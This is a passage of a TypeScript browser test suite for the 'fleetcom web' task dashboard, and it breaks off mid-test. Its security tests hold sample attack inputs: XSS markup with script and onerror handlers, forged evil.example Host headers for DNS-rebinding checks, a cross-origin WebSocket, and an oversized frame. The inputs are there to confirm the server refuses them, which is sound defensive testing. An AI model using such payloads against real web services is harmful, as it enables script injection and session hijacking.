// `fleetcom web` in a real browser (docs/web.md): Debian's chromium driven by puppeteer-core. The page
// lists the fleet with the waiting tasks on top, draws a task's screen as peek reads it, types into
// it only under --write; without the token nothing is answered, a WebSocket from another Origin is
// refused, an oversized frame closes the socket. Under CI a missing chromium fails the file.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { appendFileSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import puppeteer, { type Browser, type Page } from "puppeteer-core";
import { committedRepo } from "../harness/git-repo.ts";
import { installFakeAgents } from "../harness/agent-fakes.ts";
import { Fleet, type PtyClient, until } from "../harness/fleet.ts";
import { fleetcomArgv, processesWhere, runFleetcom } from "../harness/helpers.ts";
import { canCreateUsers, createOtherUser, type OtherUser } from "../harness/other-user.ts";
import { freePort, type SshServer, sshdAvailable, startSshServer } from "../harness/sshd.ts";
import { shellWords, Tmux } from "../harness/tmux.ts";
import { sharingPack } from "../harness/packs.ts";
import { sha256Hex } from "../../src/text-sha256.ts";
import { LOGIN_TOKEN_MINUTES } from "../../src/web-token.ts";
import { OPENS_PER_HOST } from "../../src/client-open-slots.ts";
import { remoteBinary } from "../../src/client-ssh.ts";

const CHROMIUM = "/usr/bin/chromium";
const ARTIFACTS = resolve(import.meta.dir, "../../test-artifacts");
const haveChromium = existsSync(CHROMIUM);
if (!haveChromium && process.env.CI === "true") throw new Error(`${CHROMIUM} is missing: .ci/run installs Debian's chromium for these tests`);
// The hosts' tests need root (a second user), sshd and the binary to install there; .ci/run has them.
const canReachHosts = haveChromium && sshdAvailable() && process.env.FLEETCOM_TEST_BIN !== undefined;
if (!canReachHosts && process.env.CI === "true")
  throw new Error("the web view's hosts tests need root, /usr/sbin/sshd and FLEETCOM_TEST_BIN (docs/remote.md's tests)");

let browser: Browser;
let fleet: Fleet;
const servers: ReturnType<typeof Bun.spawn>[] = [];

beforeAll(async () => {
  if (haveChromium) browser = await puppeteer.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--headless=new"] });
});
afterAll(async () => {
  await browser?.close();
});
beforeEach(() => {
  fleet = new Fleet();
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map(stopWeb));
  await fleet.stop();
});

/** Stops a web view as a user or a service manager does (SIGTERM), SIGKILL should it not end; its exit code. */
async function stopWeb(server: ReturnType<typeof Bun.spawn>): Promise<number | null> {
  server.kill("SIGTERM");
  const bound = setTimeout(() => server.kill("SIGKILL"), 10_000);
  await server.exited;
  clearTimeout(bound);
  return server.exitCode;
}

/** The ssh processes whose arguments include every one of `words` (a zombie has none). */
/** A process's parent, from its /proc status; 0 once it is gone. */
function parentOf(pid: number): number {
  try {
    return Number(/^PPid:\s+(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, "latin1"))?.[1] ?? 0);
  } catch {
    return 0;
  }
}

function sshProcesses(...words: string[]): number[] {
  return processesWhere((read) => {
    const args = read("cmdline").split("\0");
    return args[0] === "ssh" && words.every((word) => args.some((arg) => arg.includes(word)));
  });
}

/**
 * `fleetcom web` with these flags (of the test's fleet, unless `on` names another): the address it says
 * it listens on (stdout is a pipe here, so it prints no login token), a login URL from `web --url`
 * for that port, and its origin.
 */
async function startWeb(
  flags: string[] = [],
  on: { env: Record<string, string>; home: string } = { env: fleet.env, home: fleet.sandbox.home },
): Promise<{ url: string; origin: string; said: string }> {
  const server = Bun.spawn(fleetcomArgv(["web", ...flags]), { env: on.env, cwd: on.home, stdout: "pipe", stderr: "pipe" });
  servers.push(server);
  const reader = server.stdout.getReader();
  let out = "";
  while (!out.includes("\n")) {
    const { value, done } = await reader.read();
    if (done) throw new Error(`fleetcom web exited: ${await new Response(server.stderr).text()}`);
    out += new TextDecoder().decode(value);
  }
  reader.releaseLock();
  const said = out.trim();
  const address = /https?:\/\/\S+?:(\d+)\//.exec(said);
  if (!address) throw new Error(`fleetcom web said no address: ${said}`);
  const extra = flags.includes("--host-name") ? ["--host-name", flags[flags.indexOf("--host-name") + 1]!] : [];
  const listen = flags.includes("--listen") ? ["--listen", flags[flags.indexOf("--listen") + 1]!] : [];
  const tls = flags.includes("--tls-cert") ? ["--tls-cert", flags[flags.indexOf("--tls-cert") + 1]!, "--tls-key", flags[flags.indexOf("--tls-key") + 1]!] : [];
  const login = await runFleetcom(["web", "--url", "--port", address[1]!, ...listen, ...tls, ...extra], { env: on.env, cwd: on.home });
  if (login.code !== 0) throw new Error(`web --url failed: ${login.stderr}`);
  const url = login.stdout.trim();
  return { url, origin: new URL(url).origin, said };
}

/** A phone-sized page logged in through the URL's token; `prepare` runs before it loads. */
async function openPage(url: string, prepare?: (page: Page) => Promise<void>): Promise<Page> {
  const page = await browser.newPage();
  await page.setViewport({ width: 390, height: 844, deviceScaleFactor: 2 });
  await prepare?.(page);
  await page.goto(url);
  await page.waitForSelector(".card");
  return page;
}

/** The ids of the cards in page order, top first. */
const cardIds = (page: Page) => page.$$eval(".card", (cards) => cards.map((c) => Number((c as HTMLElement).dataset.task)));

/** The page's terminal as text: its rows, trailing blanks and empty rows dropped (as peek prints). */
async function pageScreen(page: Page): Promise<string> {
  const rows = await page.$$eval(".xterm-rows > div", (divs) => divs.map((d) => (d.textContent ?? "").replace(/\u00a0/g, " ").trimEnd()));
  while (rows.length && rows.at(-1) === "") rows.pop();
  return rows.join("\n");
}

/**
 * Taps a task's card, found and clicked in one step inside the page: a card keeps its element across
 * fleet changes (a test below taps one with the mouse), but moves when its task changes section.
 */
async function tapCard(page: Page, selector: string): Promise<void> {
  await page.waitForSelector(selector);
  await page.$eval(selector, (card) => (card as HTMLElement).click());
}

async function openTask(page: Page, id: number): Promise<void> {
  await tapCard(page, `.card[data-task="${id}"]`);
  await page.waitForSelector(".xterm-rows");
}

/**
 * The race of the Changes' two replies, made to happen every time: each "changes" reply the page gets
 * is held until a "checkpoints" reply has been handled (or, with `failing`, replaced by an error), and
 * every place checkpoint 2's Rewind is seen at, from when it is first drawn, goes into `rewindTops`.
 */
function checkpointsFirst(failing: boolean) {
  return (page: Page) =>
    page
      .evaluateOnNewDocument((failing: boolean) => {
        const w = window as unknown as { rewindTops: number[]; WebSocket: unknown };
        w.rewindTops = [];
        const Native = WebSocket;
        const setMessage = Object.getOwnPropertyDescriptor(Native.prototype, "onmessage")!.set!;
        function Reordering(url: string, protocols: string[]) {
          const ws = new Native(url, protocols);
          let changesHeld: MessageEvent[] = [];
          let checkpointsAhead = 0;
          Object.defineProperty(ws, "onmessage", {
            set(handle: (e: MessageEvent) => void) {
              setMessage.call(ws, (e: MessageEvent) => {
                const type = JSON.parse(e.data).type;
                if (type === "changes" && failing) e = new MessageEvent("message", { data: JSON.stringify({ type: "error", message: "no changes here" }) });
                if (type === "changes" && checkpointsAhead === 0) return void changesHeld.push(e);
                if (type === "changes") checkpointsAhead--;
                handle(e);
                if (type !== "checkpoints") return;
                if (changesHeld.length === 0) return void checkpointsAhead++;
                const held = changesHeld;
                changesHeld = [];
                setTimeout(() => held.forEach(handle));
              });
            },
          });
          return ws;
        }
        Reordering.prototype = Native.prototype;
        w.WebSocket = Reordering;
        new MutationObserver(() => {
          const top = document.querySelector('#checkpoints .checkpoint[data-n="2"] .rewind')?.getBoundingClientRect().top;
          if (top !== undefined && top !== w.rewindTops.at(-1)) w.rewindTops.push(top);
        }).observe(document, { childList: true, subtree: true });
      }, failing)
      .then(() => undefined);
}

/** The session token the page keeps (its origin's storage) for the login token, for clients the test drives by hand. */
async function sessionOf(page: Page): Promise<string> {
  const session = await page.evaluate(() => localStorage.getItem("fleetcom-session"));
  if (!session) throw new Error("the page has no session");
  return session;
}

/** A WebSocket opened by hand with this Origin (none: null), session and headers; resolves with whether it opened, and its messages. */
function rawSocket(
  origin: string,
  { from = origin, session, headers = {} }: { from?: string | null; session?: string | undefined; headers?: Record<string, string> },
) {
  const protocols = session === undefined ? [] : ["fleetcom", `session.${session}`];
  const ws = new WebSocket(`${origin.replace("http", "ws")}/ws`, {
    headers: { ...(from !== null && { Origin: from }), ...headers },
    protocols,
  } as unknown as string[]);
  const messages: { type: string; message?: string }[] = [];
  ws.onmessage = (e) => messages.push(JSON.parse(String(e.data)));
  const closed = new Promise<number>((r) => (ws.onclose = (e) => r(e.code)));
  const opened = new Promise<boolean>((r) => {
    ws.onopen = () => r(true);
    closed.then(() => r(false));
  });
  return { ws, messages, opened, closed };
}

/** The web view's answer to a login token (POST /login, as the page's script sends it): its status, and the session it gave. */
async function logIn(origin: string, token: string): Promise<{ status: number; session: string | null }> {
  const r = await fetch(`${origin}/login`, { method: "POST", headers: { "x-fleetcom-login": token, origin } });
  return { status: r.status, session: r.ok ? ((await r.json()) as { session: string }).session : null };
}

describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
  test("the page lists the fleet; a task that starts waiting goes on top, the title counts it; a screenshot at 390x844", async () => {
    const first = await fleet.run("echo building; sleep 600", ["--name", "build", "--group", "api"]);
    const asker = await fleet.run("read x; printf 'Overwrite config.toml? [y/N] \\a'; sleep 600", ["--name", "deploy", "--group", "api"]);
    const { url } = await startWeb();
    const page = await openPage(url);
    expect(await cardIds(page)).toEqual([first, asker]);
    expect(await page.title()).toBe("fleetcom");
    await fleet.ok(["send", String(asker), "go"]);
    await page.waitForFunction(() => document.title === "(1) fleetcom");
    expect((await cardIds(page))[0]).toBe(asker);
    expect(await page.$eval(".card", (c) => c.classList.contains("waiting"))).toBe(true);
    expect(await page.$eval("h2", (h) => h.textContent)).toBe("Waiting (1)");
    expect(await page.$eval(".card .age", (age) => age.textContent)).toMatch(/^(\d+% · [\d.]+[KMG] · )?waited \d+s$/); // its CPU and memory, then how long it has waited, not the task's age
    mkdirSync(ARTIFACTS, { recursive: true });
    const shot = join(ARTIFACTS, "web-390x844.png");
    await page.screenshot({ path: shot });
    expect(statSync(shot).size).toBeGreaterThan(1000);
  });

  test("with the Notification permission, a task that starts waiting while the page is hidden raises one notification; while it is shown, none", async () => {
    const shown = await fleet.run("read x; printf 'Proceed? \\a'; sleep 600", ["--name", "shown"]);
    const hidden = await fleet.run("read x; printf 'Deploy now? \\a'; sleep 600", ["--name", "hidden"]);
    const { url } = await startWeb();
    const page = await browser.newPage();
    await page.setViewport({ width: 390, height: 844, deviceScaleFactor: 2 });
    // Headless chromium grants no permission and never hides a page: both are the test's to say.
    await page.evaluateOnNewDocument(() => {
      const w = window as unknown as { raised: { title: string; body: string }[]; pageHidden: boolean; Notification: unknown };
      w.raised = [];
      w.pageHidden = false;
      w.Notification = class {
        static permission = "granted";
        static requestPermission = () => Promise.resolve("granted");
        constructor(title: string, options: { body?: string } = {}) {
          w.raised.push({ title, body: options.body ?? "" });
        }
      };
      Object.defineProperty(document, "hidden", { get: () => w.pageHidden });
    });
    await page.goto(url);
    await page.waitForSelector(".card");
    const raised = () => page.evaluate(() => (window as unknown as { raised: { title: string }[] }).raised.map((n) => n.title));
    await fleet.ok(["send", String(shown), "go"]);
    await page.waitForFunction(() => document.title === "(1) fleetcom");
    await page.evaluate(() => ((window as unknown as { pageHidden: boolean }).pageHidden = true));
    await fleet.ok(["send", String(hidden), "go"]);
    await page.waitForFunction(() => document.title === "(2) fleetcom");
    // A later change of the fleet sends it again: the wait already told is not told twice.
    const later = await fleet.run("echo later; sleep 600");
    await page.waitForSelector(`.card[data-task="${later}"]`);
    expect(await raised()).toEqual(["fleetcom: hidden waits"]);
  });

  test("each card shows its task's CPU and memory; the task's head adds its last minute of CPU as bars", async () => {
    const busy = await fleet.run("while :; do :; done", ["--name", "spinner"]);
    const watchers = async () => JSON.parse(await fleet.ok(["status", "--json"])).resources.watchers as number;
    const { url } = await startWeb();
    // Running, with no page open, the web view has the daemon sample nothing.
    expect(await watchers()).toBe(0);
    const page = await openPage(url);
    await until("the daemon sampling for the open page", async () => (await watchers()) === 1);
    const ageOf = () => page.$eval(`.card[data-task="${busy}"] .age`, (a) => a.textContent ?? "");
    await until("the card's CPU and memory", async () => /^(\d+)% · \d+(\.\d)?[KMG] · /.test(await ageOf()));
    await openTask(page, busy);
    const head = () => page.$eval("#task-state", (s) => s.textContent ?? "");
    await until("the head's sparkline", async () => / · CPU [▁▂▃▄▅▆▇█]{2,} \d+% · \d+(\.\d)?[KMG]$/.test(await head()));
    await page.close();
    await until("no sampling once the last page is closed", async () => (await watchers()) === 0);
  });

  test("a card keeps its element while the fleet changes, so a tap that began on it opens its task", async () => {
    const id = await fleet.run("n=0; while :; do n=$((n+1)); echo tick-$n; sleep 0.3; done", ["--name", "ticker"]);
    await until("the task ticking", async () => (await fleet.peek(id)).includes("tick-2"));
    const { url } = await startWeb();
    const page = await openPage(url);
    const selector = `.card[data-task="${id}"]`;
    const card = await page.waitForSelector(selector);
    const lineNow = () => page.$eval(`${selector} .line`, (l) => l.textContent);
    const before = await lineNow();
    // The fleet is sent again with each new preview line: wait for one, then tap the card found before it.
    await until("the card's preview to change", async () => (await lineNow()) !== before);
    expect(await card!.evaluate((c) => c.isConnected)).toBe(true);
    await card!.click();
    await page.waitForSelector(".xterm-rows");
    expect(await page.$eval("#task-title", (t) => t.textContent)).toBe(`${id} ticker`);
  });

  test("a task's screen in the page holds the same text as peek, and follows it live", async () => {
    const id = await fleet.run("printf 'line one\\n  indented two\\n'; read x; echo \"then: $x\"; sleep 600");
    await until("the task's output", async () => (await fleet.peek(id)).includes("indented two"));
    const { url } = await startWeb();
    const page = await openPage(url);
    await openTask(page, id);
    const peeked = (await fleet.peek(id)).replace(/\n$/, "");
    await until("the page's screen to be peek's", async () => (await pageScreen(page)) === peeked);
    await fleet.ok(["send", String(id), "later"]);
    await until("the page's screen to follow", async () => (await pageScreen(page)).includes("then: later"));
    expect(await pageScreen(page)).toBe((await fleet.peek(id)).replace(/\n$/, ""));
  });

  test("a task that floods reaches the page as whole screens, a small part of what it printed, ending on peek's screen", async () => {
    const printed = 1_000_000;
    const id = await fleet.run(`read x; yes | head -c ${printed}; echo; echo flood-done; sleep 600`);
    const { url } = await startWeb();
    const page = await openPage(url);
    const cdp = await page.createCDPSession();
    await cdp.send("Network.enable");
    let received = 0;
    cdp.on("Network.webSocketFrameReceived", (e) => (received += e.response.payloadData.length));
    await openTask(page, id);
    await page.waitForSelector(".xterm-rows > div");
    await fleet.ok(["send", String(id), "go"]);
    await until("the flood's end on the page", async () => (await pageScreen(page)).includes("flood-done"), 120_000);
    expect(await pageScreen(page)).toBe((await fleet.peek(id)).replace(/\n$/, ""));
    expect(received).toBeLessThan(printed / 4);
  });

  test("viewing a task leaves its size alone; a terminal that resizes it is followed", async () => {
    const id = await fleet.run("echo sized; sleep 600");
    const before = await fleet.task(id);
    const { url } = await startWeb();
    const page = await openPage(url);
    await openTask(page, id);
    await until("the page's screen", async () => (await pageScreen(page)).includes("sized"));
    expect(await page.$$eval(".xterm-rows > div", (rows) => rows.length)).toBe(before.rows);
    expect(await fleet.task(id)).toMatchObject({ cols: before.cols, rows: before.rows });
    const terminal = fleet.spawnClient(["attach", String(id)], { cols: 70, rows: 17 });
    await terminal.waitForScreen("the attached screen", (s) => s.includes("sized"));
    await fleet.waitForTask(id, "to take the terminal's size", (t) => t.cols === 70 && t.rows === 17);
    await until("the page's terminal at the new size", async () => (await page.$$eval(".xterm-rows > div", (rows) => rows.length)) === 17);
  });

  test("History shows the task's kept history as text, its last 5,000 lines with a note, scrolled to the end; read-only allows it", async () => {
    mkdirSync(fleet.sandbox.config, { recursive: true, mode: 0o700 });
    writeFileSync(join(fleet.sandbox.config, "config.toml"), "scrollback = 8000\n");
    const markup = ["<script>window.injected = 1</script>", '<img src=x onerror="window.injected = 2">'];
    const id = await fleet.run(`seq 1 6000; printf '%s\\n' '${markup[0]}' '${markup[1]}'; echo history-end; sleep 600`);
    await until("the task's output", async () => (await fleet.peek(id)).includes("history-end"));
    const { url } = await startWeb();
    const page = await openPage(url);
    await openTask(page, id);
    await page.click("#history-button");
    await page.waitForFunction(() => document.getElementById("history")?.textContent?.includes("history-end"));
    const peeked = (await fleet.ok(["peek", String(id), "--history", "--lines", "5000"])).replace(/\n$/, "");
    expect(peeked.split("\n")).toHaveLength(5000);
    expect(await page.$eval("#history", (h) => h.textContent)).toBe(peeked);
    expect(await page.$eval("#history-note", (n) => n.textContent)).toStartWith("the last 5000 lines");
    // And where the rest is: the task's log.
    expect(await page.$eval("#history-note", (n) => n.textContent)).toContain(`fleetcom logs ${id} prints all it printed`);
    // The task's markup is text on the page: no element made of it, no script of it run.
    expect(peeked).toContain(`${markup.join("\n")}\nhistory-end`);
    expect(await page.$$eval("#history *", (children) => children.length)).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { injected?: number }).injected)).toBeUndefined();
    // Scrollable within the page (a phone), and shown at its newest line.
    const box = await page.$eval("#history", (h) => ({ top: h.scrollTop, height: h.clientHeight, whole: h.scrollHeight }));
    expect(box.whole).toBeGreaterThan(box.height);
    expect(box.top + box.height).toBeGreaterThanOrEqual(box.whole - 1);
    expect(await page.$eval("#term", (t) => (t as HTMLElement).hidden)).toBe(true);
    await page.click("#history-button");
    expect(await page.$eval("#term", (t) => (t as HTMLElement).hidden)).toBe(false);
  });

  test("with --write, typing in the page reaches the task, and a key button answers it", async () => {
    const id = await fleet.run('while read l; do echo "got:$l"; done');
    const { url } = await startWeb(["--write"]);
    const page = await openPage(url);
    await openTask(page, id);
    await page.click("#term");
    await page.keyboard.type("typed in chromium\n");
    await until("the typing to reach the task", async () => (await fleet.peek(id)).includes("got:typed in chromium"));
    await page.type("#text", "sent from the form");
    await page.click("#send button");
    await until("the form's text to reach the task", async () => (await fleet.peek(id)).includes("got:sent from the form"));
    await page.click("#term");
    await page.keyboard.type("half");
    await page.click("#keys button"); // Enter
    await until("the Enter button to reach the task", async () => (await fleet.peek(id)).includes("got:half"));
    mkdirSync(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTIFACTS, "web-task-390x844.png") });
  });

  test("with --write, Kill asks first and kills only when confirmed; Rerun starts the finished task again", async () => {
    const id = await fleet.run("echo alive; sleep 600");
    const { url } = await startWeb(["--write"]);
    const page = await openPage(url);
    await openTask(page, id);
    expect(await page.$eval("#rerun", (b) => (b as HTMLElement).hidden)).toBe(true);
    const asked: string[] = [];
    page.once("dialog", (dialog) => {
      asked.push(dialog.message());
      dialog.dismiss();
    });
    await page.click("#kill");
    expect(asked).toEqual([`Kill task ${id} (echo alive; sleep 600)?`]);
    expect((await fleet.task(id)).state).toBe("running");
    page.once("dialog", (dialog) => dialog.accept());
    await page.click("#kill");
    const killed = await fleet.waitForExit(id);
    expect(killed.signal).not.toBeNull();
    await page.waitForFunction(() => !(document.getElementById("rerun") as HTMLElement).hidden);
    await page.click("#rerun");
    await fleet.waitForTask(id, "to run again", (t) => t.state === "running" && t.run === killed.run + 1);
  });

  test("without --write, typing in the page does nothing and the server refuses input", async () => {
    const id = await fleet.run('while read l; do echo "got:$l"; done');
    const { url, origin } = await startWeb();
    const page = await openPage(url);
    expect(await page.$eval("#controls", (c) => (c as HTMLElement).hidden)).toBe(true);
    await openTask(page, id);
    await page.click("#term");
    await page.keyboard.type("from the page\n");
    const raw = rawSocket(origin, { session: await sessionOf(page) });
    expect(await raw.opened).toBe(true);
    raw.ws.send(JSON.stringify({ type: "send", task: id, text: "from a socket" }));
    raw.ws.send(JSON.stringify({ type: "view", task: id }));
    raw.ws.send(JSON.stringify({ type: "input", data: "typed on a socket\r" }));
    await until("both refusals", () => raw.messages.filter((m) => m.type === "error" && m.message?.startsWith("read-only")).length === 2);
    raw.ws.close();
    // The task reads a line sent the ordinary way; what the page or the socket typed would have come first.
    await fleet.ok(["send", String(id), "from the CLI"]);
    await until("the CLI's line", async () => (await fleet.peek(id)).includes("got:from the CLI"));
    expect(await fleet.peek(id)).not.toContain("from the page");
    expect(await fleet.peek(id)).not.toContain("socket");
  });

  test("a wrong, spent or revoked token gets nothing of the fleet; the login token leaves the address bar; --revoke ends open pages too", async () => {
    await fleet.run("sleep 600");
    const { url, origin } = await startWeb();
    const token = new URL(url).searchParams.get("token")!;
    // The page and its scripts are the binary's, the same for everyone; the fleet comes only over the WebSocket.
    expect(await logIn(origin, "nope")).toEqual({ status: 401, session: null });
    for (const session of [undefined, "nope"]) expect(await rawSocket(origin, { session }).opened).toBe(false);
    expect((await fetch(`${origin}/session`, { headers: { "x-fleetcom-session": "nope" } })).status).toBe(401);
    const page = await openPage(url);
    expect(page.url()).toBe(`${origin}/`);
    expect(await logIn(origin, token)).toEqual({ status: 401, session: null });
    await page.goto(url); // the same browser, the spent URL: let in on its session
    await page.waitForSelector(".card");
    const session = await sessionOf(page);
    const stored = readFileSync(join(fleet.sandbox.config, "web-tokens"), "utf8");
    expect(stored).not.toContain(session);
    expect(stored).not.toContain(token);
    expect(statSync(join(fleet.sandbox.config, "web-tokens")).mode & 0o777).toBe(0o600);
    const open = rawSocket(origin, { session });
    expect(await open.opened).toBe(true);
    await fleet.ok(["web", "--revoke"]);
    expect((await fetch(`${origin}/session`, { headers: { "x-fleetcom-session": session } })).status).toBe(401);
    expect(await rawSocket(origin, { session }).opened).toBe(false);
    expect(await open.closed).toBe(4401); // the page already open is disconnected too
    await page.waitForFunction(() => document.getElementById("summary")?.textContent?.startsWith("not logged in"));
    expect(await page.evaluate(() => localStorage.getItem("fleetcom-session"))).toBeNull();
  });

  test("without a terminal, fleetcom web prints where it listens and no login token; on a terminal, a login URL", async () => {
    await fleet.run("sleep 600");
    const { origin, said } = await startWeb();
    const port = new URL(origin).port;
    expect(said).toBe(`listening on http://127.0.0.1:${port}/; fleetcom web --url --port ${port} prints a login URL`);
    const tmux = new Tmux(fleet.env, fleet.sandbox.root);
    try {
      tmux.window("web", shellWords(fleetcomArgv(["web"])));
      const shown = await tmux.waitFor("web", "the login URL", (text) => /\?token=[\w-]{43}/.test(text));
      const url = /http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]{43}/.exec(shown.replace(/\n/g, ""))![0];
      const page = await openPage(url);
      expect(await page.title()).toBe("fleetcom");
    } finally {
      tmux.kill();
    }
  });

  test(`a login token unspent for ${LOGIN_TOKEN_MINUTES} minutes, or kept from before tokens expired, lets no one in`, async () => {
    await fleet.run("sleep 600");
    const { url, origin } = await startWeb();
    // Written into the file as the web view keeps tokens: their SHA-256, and when each was made.
    const stale = "s".repeat(43);
    const unexpiring = "u".repeat(43);
    const lateBy = (LOGIN_TOKEN_MINUTES + 1) * 60_000;
    appendFileSync(join(fleet.sandbox.config, "web-tokens"), `login ${sha256Hex(stale)} ${Date.now() - lateBy}\nlogin ${sha256Hex(unexpiring)}\n`);
    for (const token of [stale, unexpiring]) {
      const context = await browser.createBrowserContext();
      const page = await context.newPage();
      await page.goto(`${origin}/?token=${token}`);
      await page.waitForFunction(() => document.getElementById("summary")?.textContent?.startsWith("not logged in"));
      expect(await page.$$(".card")).toHaveLength(0);
      await context.close();
    }
    expect(await (await openPage(url)).$$(".card")).toHaveLength(1);
  });

  test("web --url prints a new login URL for the web view listening on --port (the service's way in)", async () => {
    await fleet.run("sleep 600");
    const { origin } = await startWeb();
    const port = new URL(origin).port;
    const url = (await fleet.ok(["web", "--url", "--port", port])).trim();
    expect(url).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${port}/\\?token=[\\w-]{43}$`));
    expect((await logIn(origin, new URL(url).searchParams.get("token")!)).status).toBe(200);
    const r = await fleet.cli(["web", "--url"]);
    expect({ code: r.code, stdout: r.stdout }).toEqual({ code: 2, stdout: "" });
  });

  test("a request naming a Host the view does not serve is refused (DNS rebinding); addresses, localhost and --host-name are served", async () => {
    await fleet.run("sleep 600");
    const { url } = await startWeb();
    const port = new URL(url).port;
    const token = new URL(url).searchParams.get("token")!;
    const status = (host: string, request: string, on = port) => rawHttp(Number(on), request.replace("HOST", host));
    const page = "GET / HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n";
    const login = (t: string) => `POST /login HTTP/1.1\r\nHost: HOST\r\nx-fleetcom-login: ${t}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
    for (const foreign of [`evil.example:${port}`, "evil.example", `127.0.0.1.evil.example:${port}`, `0x7f000001:${port}`, `localhost.:${port}`]) {
      expect({ foreign, page: await status(foreign, page), login: await status(foreign, login(token)) }).toEqual({ foreign, page: 421, login: 421 });
      expect(await status(foreign, `GET /?token=${token} HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n`)).toBe(421);
    }
    // Not a host name at all: refused too, by the server's parser or by the view.
    for (const malformed of ["", "a@127.0.0.1", "127.0.0.1:1/x"]) expect(await status(malformed, login(token))).toBeGreaterThanOrEqual(400);
    for (const served of [`127.0.0.1:${port}`, `localhost:${port}`, "[::1]:8000"])
      expect({ served, page: await status(served, page) }).toEqual({ served, page: 200 });
    // The refused requests spent nothing: the token still logs in, once.
    expect(await status(`127.0.0.1:${port}`, login(token))).toBe(200);

    // Behind a TLS front (tailscale serve keeps the browser's Host): the name it is given is served, and the URL names it.
    const named = await startWeb(["--host-name", "fleet.example.ts.net"]);
    expect(named.url).toStartWith("http://fleet.example.ts.net:");
    const namedPort = new URL(named.url).port;
    expect(await status("FLEET.example.ts.net", page, namedPort)).toBe(200);
    expect(await status("other.example.ts.net", page, namedPort)).toBe(421);
    expect(await status("fleet.example.ts.net", login(new URL(named.url).searchParams.get("token")!), namedPort)).toBe(200);
  });

  test("a WebSocket from another Origin is refused, and an oversized frame closes one", async () => {
    await fleet.run("sleep 600");
    const { url, origin } = await startWeb(["--write"]);
    const page = await openPage(url);
    const session = await sessionOf(page);
    expect(await rawSocket(origin, { from: "http://evil.example", session }).opened).toBe(false);
    expect(await rawSocket(origin, { from: "http://127.0.0.1:1", session }).opened).toBe(false);
    expect(await rawSocket(origin, { from: null, session }).opened).toBe(false);
    const own = rawSocket(origin, { session });
    expect(await own.opened).toBe(true);
    own.ws.send(JSON.stringify({ type: "input", data: "x".repeat(200 * 1024) }));
    expect(await own.closed).not.toBe(1000);
  });

  test("--listen off loopback without TLS refuses to start; with a certificate it serves HTTPS", async () => {
    const r = await fleet.cli(["web", "--listen", "0.0.0.0"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("--tls-cert");
    expect(r.stdout).toBe("");
    const missing = await fleet.cli(["web", "--listen", "0.0.0.0", "--tls-cert", "/nonexistent.pem", "--tls-key", "/nonexistent.pem"]);
    expect({ code: missing.code, stderr: missing.stderr }).toEqual({
      code: 2,
      stderr: "fleetcom: web: --tls-cert /nonexistent.pem: no such file or directory\n",
    });
    // A self-signed pair made once for these tests (a fixture, so no openssl is needed here); its key guards nothing.
    const fixtures = resolve(import.meta.dir, "../harness/fixtures");
    const { url } = await startWeb(["--listen", "0.0.0.0", "--tls-cert", `${fixtures}/web-test-cert.pem`, "--tls-key", `${fixtures}/web-test-key.pem`]);
    expect(url).toStartWith("https://0.0.0.0:");
    const local = new URL(url.replace("0.0.0.0", "127.0.0.1"));
    const tls = { rejectUnauthorized: false };
    const login = await fetch(`${local.origin}/login`, {
      method: "POST",
      headers: { "x-fleetcom-login": local.searchParams.get("token")! },
      tls,
    } as RequestInit);
    expect(login.status).toBe(200);
  });
});

// The phone (issue 45): a task's screen readable at 390x844, a full-screen app exact, links that say
// what to do when spent or read-only, a writing link for a view started without --write.
describe.skipIf(!haveChromium)("fleetcom web on a phone", () => {
  /** Sizes a task as a terminal of this size attached to it does, then lets the terminal go. */
  async function sizeTask(id: number, cols: number, rows: number): Promise<PtyClient> {
    const terminal = fleet.spawnClient(["attach", String(id)], { cols, rows });
    await fleet.waitForTask(id, `to take ${cols} columns`, (t) => t.cols === cols);
    return terminal;
  }

  /** Where the first text node of the page's text view holding `from` shows it (through `to`), its font size and colour, and the page's widths. */
  function placeOf(page: Page, from: string, to: string) {
    return page.evaluate(
      (from, to) => {
        const box = document.getElementById("screen-text")!;
        const walker = document.createTreeWalker(box, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          const text = node.textContent ?? "";
          const at = text.indexOf(from);
          if (at < 0) continue;
          const range = document.createRange();
          range.setStart(node, at);
          range.setEnd(node, text.lastIndexOf(to) + to.length);
          const rects = [...range.getClientRects()];
          const style = getComputedStyle(node.parentElement!);
          return {
            fontPx: Number.parseFloat(style.fontSize),
            lines: new Set(rects.map((r) => Math.round(r.top))).size,
            color: style.color,
            left: Math.min(...rects.map((r) => r.left)),
            right: Math.max(...rects.map((r) => r.right)),
            top: Math.min(...rects.map((r) => r.top)),
            bottom: Math.max(...rects.map((r) => r.bottom)),
            viewport: { width: innerWidth, height: innerHeight },
            pageWidth: document.documentElement.scrollWidth,
            box: { scroll: box.scrollWidth, client: box.clientWidth },
          };
        }
        return null;
      },
      from,
      to,
    );
  }

  test("at 390x844 the marker line of a 120-column task's screen is shown at 12 px or more, in its colour, with no sideways scroll", async () => {
    const marker = `MARKER ${"the agent asks which file to edit ".repeat(3)}END`;
    // An agent's input box drawn across the task's 120 columns, in the normal screen (as Claude's is).
    const box = [`╭${"─".repeat(116)}╮`, `│ > ${"".padEnd(113)}│`, `╰${"─".repeat(116)}╯`];
    const drawBox = box.map((l) => `printf '%s\\n' '${l}'`).join("; ");
    const id = await fleet.run(`read x; printf '\\033[1;33m%s\\033[0m\\n' '${marker}'; ${drawBox}; sleep 600`);
    const terminal = await sizeTask(id, 120, 40);
    terminal.kill();
    await fleet.ok(["send", String(id), "go"]);
    await until("the marker on the task's screen", async () => (await fleet.peek(id)).includes(marker));
    expect(marker.length).toBeGreaterThan(100);
    const { url } = await startWeb();
    const page = await openPage(url);
    await openTask(page, id);
    await page.waitForFunction((m) => document.getElementById("screen-text")?.textContent?.includes(m), {}, marker);
